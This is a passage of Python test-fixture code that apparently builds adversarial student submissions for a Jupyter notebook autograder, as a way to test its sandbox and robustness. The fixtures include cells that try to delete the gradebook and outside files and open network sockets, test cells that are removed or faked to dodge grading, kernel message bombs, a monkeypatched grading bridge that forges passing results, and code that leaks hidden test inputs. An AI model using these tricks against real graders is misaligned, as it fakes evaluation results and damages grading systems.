        "attempt('delete_gradebook', lambda: os.remove(ROOT + '/gradebook.db'))\n"
        f"attempt('delete_outside_file', lambda: os.remove({str(canary / 'canary.txt')!r}))\n"
        f"attempt('write_outside_folder', lambda: write({str(canary / 'planted.txt')!r}))\n"
        f"attempt('network_grader', lambda: socket.create_connection(('127.0.0.1', {listener_port}), timeout=3))\n"
        "attempt('network_outside', lambda: socket.create_connection(('1.1.1.1', 53), timeout=3))\n"
        # actkit-grade's shared warm tester listens in the grader's temporary folder: out of the sandbox's sight
        f"attempt('fork_server', lambda: socket.socket(socket.AF_UNIX).connect("
        f"(__import__('glob').glob({tempfile.gettempdir()!r} + '/actkit-fork-*/socket') or ['absent'])[0]))\n"
        "attempt('write_own_folder', lambda: write('scratch.json'))\n"
        "print('TAMPER ' + json.dumps(TRIED))\n"
    )
    _write(root, "tamper", _submission(released, {**right, "linear": right["linear"] + "\n\n" + tamper}))

    # --- structural changes
    nb = _submission(released, {**right, **{k: WRONG[k] for k in ("sigmoid", "tanh", "relu", "leaky_relu")}})
    _cell(nb, "test_sigmoid").source = "pass  # nothing to see here"
    nb.cells.remove(_cell(nb, "test_tanh"))
    relu_test = _cell(nb, "test_relu")  # turned into markdown (it would not run), metadata kept
    relu_test.cell_type = "markdown"
    del relu_test["outputs"], relu_test["execution_count"]
    leaky_test = _cell(nb, "test_leaky_relu")
    del leaky_test.metadata["nbgrader"]
    leaky_test.source = "pass"
    nb.cells.remove(_cell(nb, "maxout"))
    _write(root, "struct_locked", nb)

    nb = _submission(released, {**right, "elu": WRONG["elu"], "softmax": WRONG["softmax"]})
    helpers = _cell(nb, "test_helpers")
    nb.cells.remove(helpers)
    nb.cells.append(helpers)  # moved behind every test
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "import numpy as np" in c.source)
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(
        "def check_output(out, shape):\n    pass\n\n\ndef check_elementwise(*args, **kwargs):\n    pass\n\n\n"
        "def call_strict(f, *args, **kwargs):\n    return f(*args, **kwargs)\n"))
    relu_test = _cell(nb, "test_relu")  # a test moved above its answer (graded in the released order)
    nb.cells.remove(relu_test)
    nb.cells.insert(nb.cells.index(_cell(nb, "relu")), relu_test)
    softmax_test = _cell(nb, "test_softmax")
    fake = nbformat.from_dict(json.loads(json.dumps(softmax_test)))
    fake.source = "pass"
    nb.cells.insert(nb.cells.index(_cell(nb, "softmax")), fake)  # a copy with the same grade id, first
    maxout = _cell(nb, "maxout")
    stub = nbformat.from_dict(json.loads(json.dumps(maxout)))
    stub.source = _cell(nbformat.read(released, as_version=4), "maxout").source
    nb.cells.insert(nb.cells.index(maxout), stub)  # the stub first, the right answer in the copy
    _write(root, "struct_order", nb)

    # --- broken files
    text = (root / "submitted" / "ada" / ASSIGNMENT / released.name).read_text()
    path = root / "submitted" / "invalid_json" / ASSIGNMENT / released.name
    path.parent.mkdir(parents=True)
    path.write_text(text[: len(text) // 2])
    path = root / "submitted" / "empty_file" / ASSIGNMENT / released.name
    path.parent.mkdir(parents=True)
    path.write_text("")
    nb = _submission(released, right)
    path = root / "submitted" / "old_format" / ASSIGNMENT / released.name
    path.parent.mkdir(parents=True)
    nbformat.write(nbformat.convert(nb, 3), path, version=3)
    _write(root, "misnamed", _submission(released, right), name=f"{ASSIGNMENT} (1).ipynb")
    path = root / "submitted" / "missing" / ASSIGNMENT / "notes.txt"
    path.parent.mkdir(parents=True)
    path.write_text("I could not finish, sorry.\n")
    _write(root, "extra_notebook", _submission(released, right))
    _write(root, "extra_notebook", _submission(released, {}), name="scratch.ipynb")
    (root / "submitted" / "extra_notebook" / ASSIGNMENT / "helper.py").write_text("ANSWER = 42\n")

    _build_issue_24(root, released, right)

    students = sorted(p.name for p in (root / "submitted").iterdir())
    expected = set(CONTROLS) | {c.student for c in CASES}
    assert set(students) == expected, set(students) ^ expected
    return students


def copy_controls(source_root: Path, target_root: Path) -> None:
    """The control students' submissions only (for the reference run without the others)."""
    for student in CONTROLS:
        shutil.copytree(source_root / "submitted" / student, target_root / "submitted" / student)


ECHO_MARKERS = ["ECHO-CALL", "ECHO-DISPLAY", "ECHO-THREAD", "ECHO-WARN", "ECHO-RAISE"]
ECHO_LAST = "ECHO-LAST "  # printed by the echo submission's last cell, with what it recorded


def _build_issue_24(root: Path, released: Path, right: dict[str, str]) -> None:
    """Message bombs, a submission echoing the tests' arguments, broken metadata (issue 24)."""
    bomb = (
        "_kernel = get_ipython().kernel\n"
        "_big = b'{\"data\": {\"application/json\": [' + b'{},' * 33_333_333 + b'{}]}, \"metadata\": {}}'\n"
        "_kernel.session.send(_kernel.iopub_socket, 'display_data', _big, parent=_kernel.get_parent())\n"
        "del _big\n\n"
    )
    _write(root, "bomb_kernel", _submission(released, {**right, "sigmoid": bomb + right["sigmoid"]}))

    forged = (
        "import io\nimport json\nimport pickle\nimport zipfile\n\nimport actkit.grading.bridge as _bridge\n\n"
        "_serve, _on_message, _kernel = _bridge.serve, _bridge._on_message, get_ipython().kernel\n"
        "_BIG = memoryview(b'\\0' * 60_000_000)\n_zip = io.BytesIO()\n"
        "with zipfile.ZipFile(_zip, 'w') as z:\n"
        "    z.writestr('config.json', json.dumps({'module': 'keras', 'class_name': 'Sequential', 'config': {\n"
        "        'name': 's', 'layers': [{'module': 'keras.layers', 'class_name': 'Dense',\n"
        "                              'config': {'name': 'd', 'units': 20000},\n"
        "                              'build_config': {'input_shape': [None, 20000]}}]}}))\n"
        "    z.writestr('metadata.json', '{\"keras_version\": \"3.15.1\"}')\n\n\n"
        "def _target(request):\n    try:\n"
        "        return getattr(_bridge.handle(request['h']), '__name__', '') if request.get('op') == 'call' else ''\n"
        "    except Exception:\n        return ''\n\n\n"
        "def _forged_serve(request):\n    name = _target(request)\n    if name == 'tanh':\n"
        "        return {'ok': True, 'value': {'t': 'nd', 'b': 0}}, [_BIG, _BIG, _BIG]\n"
        "    if name == 'leaky_relu':\n"
        "        return {'ok': True, 'value': {'t': 'keras', 'b': 0}}, [_zip.getvalue()]\n"
        "    return _serve(request)\n\n\n"
        "def _forged_on_message(comm, msg):\n    request = pickle.loads(msg['buffers'][0])\n"
        "    if _target(request) != 'relu':\n        return _on_message(comm, msg)\n"
        "    ident = msg['content']['data'].get('id')\n"
        "    head = json.dumps({'comm_id': comm.comm_id, 'data': {'id': ident, 'ok': True}})\n"
        "    content = head[:-2].encode() + b', \"value\": [' + b'{},' * 15_000_000 + b'{}]}}'\n"
        "    _kernel.session.send(_kernel.iopub_socket, 'comm_msg', content, parent=msg, ident=comm.topic)\n\n\n"
        "_bridge.serve, _bridge._on_message = _forged_serve, _forged_on_message\n\n"
    )
    _write(root, "bomb_bridge", _submission(released, {**right, "linear": forged + right["linear"]}))

    echo = (
        "import json\nimport sys\nimport threading\nimport time\nimport warnings\n\n"
        "from IPython.display import display\n\n"
        "_SEEN = []\n\n\n"
        "def _from_tester():\n    frame = sys._getframe(1)\n    while frame is not None:\n"
        "        if frame.f_code.co_name == '_call' and 'actkit/grading/bridge' in frame.f_code.co_filename:\n"
        "            return True\n"
        "        frame = frame.f_back\n    return False\n\n\n"
        "def _record(x):\n    if not _from_tester():\n        return None\n"
        "    text = json.dumps(np.asarray(x).tolist(), default=str)\n    _SEEN.append(text)\n"
        "    print('ECHO-CALL ' + text)\n    display({'text/plain': 'ECHO-DISPLAY ' + text}, raw=True)\n"
        "    return text\n\n\n"
        "def _later():\n    while True:\n        time.sleep(0.2)\n        if _SEEN:\n"
        "            print('ECHO-THREAD ' + json.dumps(_SEEN))\n\n\n"
        "threading.Thread(target=_later, daemon=True).start()\n\n\n"
        "def linear(x):\n    text = _record(x)\n"
        "    if text is not None and np.ndim(x) == 2 and np.asarray(x).dtype.kind == 'i':  # a hidden check's\n"
        "        warnings.warn('ECHO-WARN ' + text)\n        raise ValueError('ECHO-RAISE ' + text)\n"
        "    return np.asarray(x, dtype=float)\n"
    )
    nb = _submission(released, {**right, "linear": echo})
    nb.cells.append(nbformat.v4.new_code_cell(f"time.sleep(0.5)\nprint({ECHO_LAST!r} + json.dumps(_SEEN))\n"))
    _write(root, "echo", nb)

    old = _submission(released, right)  # nbformat 4.0: another kernel, a read-only cell without its grade id
    old.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "Evil", "language": "python"}
    del _cell(old, "test_helpers").metadata["nbgrader"]["grade_id"]
    new = _submission(released, right)  # nbformat 4.5: a test cell made an answer cell, an answer cell copied
    test = _cell(new, "test_relu")
    test.metadata["nbgrader"].update(solution=True, locked=False, grade=False)
    test.source = "pass  # every check removed"
    tanh = _cell(new, "tanh")
    copy = nbformat.from_dict(json.loads(json.dumps(tanh)))
    copy.source = WRONG["tanh"]
    new.cells.insert(new.cells.index(tanh) + 1, copy)
    for minor, nb in zip(NBFORMAT_MINORS, (old, new), strict=True):
        data = json.loads(nbformat.writes(nb))
        data["nbformat_minor"] = minor
        for index, cell in enumerate(data["cells"]):
            if minor < 5:
                cell.pop("id", None)
            else:
                cell["id"] = f"cell-{index}"
        path = root / "submitted" / f"meta_minor_{minor}" / ASSIGNMENT / released.name
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(data))

    path = root / "submitted" / "not_json" / ASSIGNMENT / released.name
    path.parent.mkdir(parents=True)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
